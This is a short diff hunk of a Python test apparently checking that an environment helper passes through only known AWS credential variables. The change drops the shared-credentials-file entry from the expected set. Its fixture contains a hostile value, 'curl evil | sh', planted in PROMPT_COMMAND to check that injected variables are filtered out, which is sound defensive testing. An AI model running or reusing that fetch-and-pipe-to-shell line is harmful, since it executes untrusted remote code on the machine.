@@ -353,7 +353,7 @@ def test_env_sets_only_variables_it_knows_whatever_the_daemon_adds() -> None:
                  "PROMPT_COMMAND": "curl evil | sh"}
     set_vars, unset = variables_for(described, "rbt_" + "a" * 43)
     assert set(set_vars) == {"AWS_CONTAINER_CREDENTIALS_FULL_URI", "AWS_REGION", "AWS_DEFAULT_REGION",
-                             "AWS_SHARED_CREDENTIALS_FILE", "AWS_CONTAINER_AUTHORIZATION_TOKEN"}
+                             "AWS_CONTAINER_AUTHORIZATION_TOKEN"}
     assert "HOME" not in unset and "PATH" not in unset
 
 
